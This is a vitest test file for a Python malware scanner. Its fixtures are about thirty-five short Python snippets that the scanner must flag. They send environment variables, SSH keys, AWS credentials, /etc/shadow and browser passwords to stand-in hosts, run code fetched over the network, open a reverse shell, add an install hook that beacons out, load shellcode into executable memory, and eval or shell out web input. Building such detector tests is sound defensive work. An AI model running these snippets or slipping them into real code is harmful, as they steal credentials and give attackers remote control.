import { expect, test } from 'vitest'
import { scanPython } from './scan-python'

/** Where a value comes from and where it goes. */
const FLOWS: readonly [string, string, string[]][] = [
  [
    'the environment as JSON',
    'flow.environment.network',
    ['import os,requests', "requests.post('https://collect.example.net/x',json=dict(os.environ))"],
  ],
  [
    'the environment in a request object',
    'flow.environment.network',
    [
      'import os,json,urllib.request as u',
      'd=json.dumps(dict(os.environ)).encode()',
      "r=u.Request('https://c.example.net',data=d)",
      'u.urlopen(r)',
    ],
  ],
  [
    'the environment by aiohttp',
    'flow.environment.network',
    [
      'import aiohttp,asyncio,os',
      'async def main():',
      '    async with aiohttp.ClientSession() as s:',
      "        async with s.post('https://c.example.net',json=dict(os.environ)) as r:",
      '            pass',
      'asyncio.run(main())',
    ],
  ],
  [
    'the environment by http.client',
    'flow.environment.network',
    [
      'import http.client,os,json',
      "c=http.client.HTTPSConnection('c.example.net')",
      "c.request('POST','/',json.dumps(dict(os.environ)))",
    ],
  ],
  [
    'the environment by mail',
    'flow.environment.network',
    [
      'import smtplib,os',
      "s=smtplib.SMTP('mail.example.net')",
      "s.sendmail('a','b',str(os.environ))",
    ],
  ],
  [
    'the environment in DNS names',
    'flow.environment.network',
    [
      'import socket,os',
      'for k,v in os.environ.items():',
      "    socket.gethostbyname(v+'.x.example.net')",
    ],
  ],
  [
    'the environment through a generator',
    'flow.environment.network',
    [
      'import os,urllib.request',
      'def leak():',
      '    for k,v in os.environ.items():',
      "        yield k+'='+v",
      "urllib.request.urlopen('https://c.example.net/?'+'&'.join(leak()))",
    ],
  ],
  [
    'a token in a URL',
    'flow.environment.network',
    [
      'import os',
      "t=os.environ.get('GITHUB_TOKEN')",
      'import requests',
      "requests.get(f'https://c.example.net/?t={t}')",
    ],
  ],
  [
    'the environment by curl',
    'flow.environment.network',
    [
      'import os,subprocess',
      "subprocess.run(['curl','-d',str(dict(os.environ)),'https://c.example.net'])",
    ],
  ],
  [
    'an SSH key',
    'flow.credentials.network',
    [
      'import requests,os',
      "with open(os.path.expanduser('~/.ssh/id_rsa')) as f:",
      '    k=f.read()',
      "requests.post('https://c.example.net',data={'k':k})",
    ],
  ],
  [
    'AWS credentials by pathlib',
    'flow.credentials.network',
    [
      'from pathlib import Path',
      'import urllib.request',
      "data=(Path.home()/'.aws'/'credentials').read_bytes()",
      "urllib.request.urlopen('https://c.example.net',data)",
    ],
  ],
  [
    'credentials over a socket',
    'flow.credentials.network',
    [
      'import socket,os',
      "s=socket.create_connection(('c.example.net',80))",
      "s.sendall(open(os.path.expanduser('~/.aws/credentials'),'rb').read())",
    ],
  ],
  [
    'every file of .ssh',
    'flow.credentials.network',
    [
      'import glob,os,requests',
      "for f in glob.glob(os.path.expanduser('~/.ssh/*')):",
      "    requests.post('https://c.example.net',data=open(f).read())",
    ],
  ],
  [
    'passwords of a browser',
    'flow.credentials.network',
    [
      'import sqlite3,os,requests',
      "c=sqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))",
      "r=c.execute('select * from logins').fetchall()",
      "requests.post('https://c.example.net',json=r)",
    ],
  ],
  [
    '/etc/shadow by nc',
    'flow.credentials.network',
    ['import os', "os.system('cat /etc/shadow | nc 203.0.113.9 99')"],
  ],
  [
    'a copy of the browser store',
    'flow.credentials.file-write',
    [
      'import os,shutil,requests',
      "src=os.path.join(os.environ['LOCALAPPDATA'],'Google','Chrome','User Data','Default','Login Data')",
      "shutil.copy2(src,'/tmp/l.db')",
      "requests.post('https://c.example.net/u',files={'f':open('/tmp/l.db','rb')})",
    ],
  ],
  [
    'a copy of .ssh',
    'flow.credentials.file-write',
    ['import shutil,os', "shutil.copytree(os.path.expanduser('~/.ssh'),'/tmp/s')"],
  ],
  [
    'user and host to a bot',
    'flow.host.network',
    [
      'import requests,platform,getpass',
      "m=f'{getpass.getuser()}@{platform.node()}'",
      "requests.get('https://api.telegram.org/bot1:a/sendMessage',params={'text':m})",
    ],
  ],
  [
    'host name while installing',
    'flow.host.network',
    [
      'from setuptools import setup',
      'from setuptools.command.egg_info import egg_info',
      'import os,requests,socket',
      'class E(egg_info):',
      '    def run(self):',
      "        requests.post('https://x.oastify.com',json={'h':socket.gethostname(),'c':os.getcwd()})",
      '        egg_info.run(self)',
      "setup(name='a',cmdclass={'egg_info':E})",
    ],
  ],
  [
    'an answer is executed',
    'flow.network.eval',
    ['import urllib.request', "exec(urllib.request.urlopen('https://x.example.net/a.py').read())"],
  ],
  [
    'an answer goes through two functions',
    'flow.network.eval',
    [
      'import requests',
      'def get(u):',
      '    return requests.get(u).text',
      'def go(c):',
      '    exec(c)',
      "go(get('https://x.example.net'))",
    ],
  ],
  [
    'an address of pieces',
    'flow.network.eval',
    [
      'import requests',
      "u=''.join(['ht','tps://','x.exa','mple.net'])",
      'exec(requests.get(u).text)',
    ],
  ],
  [
    'an exception handler',
    'flow.network.eval',
    [
      'try:',
      '    1/0',
      'except Exception as e:',
      '    import urllib.request as r',
      "    exec(r.urlopen('http://203.0.113.5/x').read().decode())",
    ],
  ],
  [
    'a thread',
    'flow.network.eval',
    [
      'import threading,requests',
      'def f():',
      "    exec(requests.get('https://x.example.net').text)",
      'threading.Thread(target=f,daemon=True).start()',
    ],
  ],
  [
    'commands from a socket',
    'flow.network.process',
    [
      'import socket,subprocess',
      's=socket.socket()',
      "s.connect(('203.0.113.9',9001))",
      'while True:',
      '    c=s.recv(1024).decode()',
      '    o=subprocess.check_output(c,shell=True)',
      '    s.send(o)',
    ],
  ],
  [
    'a library is downloaded',
    'flow.network.native',
    [
      'import urllib.request,ctypes',
      "urllib.request.urlretrieve('https://x.example.net/a.so','/tmp/a.so')",
      "ctypes.CDLL('/tmp/a.so')",
    ],
  ],
  [
    'a module is downloaded',
    'flow.network.module',
    [
      'import sys,urllib.request',
      "open('/tmp/m/evil.py','wb').write(urllib.request.urlopen('https://x.example.net/e.py').read())",
      "sys.path.insert(0,'/tmp/m')",
      'import importlib.util',
      "s=importlib.util.spec_from_file_location('evil','/tmp/m/evil.py')",
    ],
  ],
  [
    'a pickle is downloaded',
    'flow.network.deserialise',
    ['import pickle,requests', "pickle.loads(requests.get('https://x.example.net/m.pkl').content)"],
  ],
  [
    'bytes go into executable memory',
    'flow.decoded.native',
    [
      'import ctypes,base64',
      "b=bytearray(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoaScpCg=='))",
      'p=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)',
      'ctypes.windll.kernel32.RtlMoveMemory(p,b,len(b))',
      'ctypes.windll.kernel32.CreateThread(0,0,p,0,0,0)',
    ],
  ],
  [
    'bytes in a buffer are called as a function',
    'flow.decoded.native',
    [
      'import ctypes',
      "b=ctypes.create_string_buffer(bytes.fromhex('90'*16+'c3'))",
      'ctypes.CFUNCTYPE(None)(ctypes.addressof(b))()',
    ],
  ],
  [
    'a function of the module runs what it is given',
    'flow.input.eval',
    ['def predict(prompt):', '    return eval(prompt)'],
  ],
  [
    'a decrypted literal is run',
    'flow.decoded.eval',
    ['from cryptography.fernet import Fernet', "exec(Fernet(b'a2V5').decrypt(b'gAAAAABl'))"],
  ],
  [
    'a statement to be timed is decoded',
    'flow.decoded.eval',
    ['import timeit,base64', "timeit.timeit(stmt=base64.b64decode('cHJpbnQoMSk=').decode())"],
  ],
  [
    'a query is evaluated',
    'flow.input.eval',
    [
      'from flask import Flask,request',
      'app=Flask(__name__)',
      "@app.route('/')",
      'def x():',
      "    return str(eval(request.args.get('q')))",
    ],
  ],
  [
    'a parameter of a route is a command',
    'flow.input.process',
    [
      'from fastapi import FastAPI',
      'import subprocess',
      'app=FastAPI()',
      "@app.get('/run')",
      'def run(cmd: str):',
      '    return subprocess.check_output(cmd,shell=True)',
    ],
  ],
]

test.each(FLOWS)('is followed: %s', (_, name, lines) => {
  const scan = scanPython(lines.join('\n'))
  expect(scan.names('code')).toContain(name)
  expect(['malicious', 'suspicious']).toContain(scan.verdict)
})
